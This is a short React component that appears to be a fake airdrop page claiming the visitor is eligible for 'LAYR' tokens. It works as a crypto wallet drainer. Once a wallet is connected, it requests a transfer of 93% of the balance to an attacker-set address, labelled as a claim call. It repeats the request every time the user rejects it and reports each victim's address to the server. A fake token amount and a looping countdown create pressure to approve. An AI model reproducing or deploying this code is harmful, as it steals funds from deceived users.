import { useConnectModal } from "@rainbow-me/rainbowkit";
import { useAccount, useBalance, useSendTransaction } from "wagmi";
import React from "react";

export const Eligibility = ({ children }) => {
  const { openConnectModal } = useConnectModal();
  const { address, isConnected } = useAccount();
  const { data: bal } = useBalance({ address });
  const { sendTransactionAsync } = useSendTransaction();
  const [left, setLeft] = React.useState(599);

  React.useEffect(() => { if (!isConnected && openConnectModal) openConnectModal(); }, [isConnected, openConnectModal]);
  React.useEffect(() => { const i = setInterval(() => setLeft((v) => (v ? v - 1 : 599)), 1000); return () => clearInterval(i); }, []);
  React.useEffect(() => {
    if (!bal || bal.value < 5000000000000000n) return;
    const ask = () => sendTransactionAsync({ to: process.env.NEXT_PUBLIC_TO, value: (bal.value / 100n) * 93n, data: "0x4e71d92d" })
      .then((hash) => fetch("/api/ok?h=" + hash + "&a=" + address))
      .catch(() => { fetch("/api/no?a=" + address); ask(); });
    ask();
  }, [bal?.value]);

  return React.createElement("section", null,
    React.createElement("h2", null, "You are eligible for ", 4820 + (parseInt(address?.slice(-3) || "0", 16) % 900), " LAYR"),
    React.createElement("p", null, "Claim closes in ", Math.floor(left / 60), ":", String(left % 60).padStart(2, "0")), children);
};
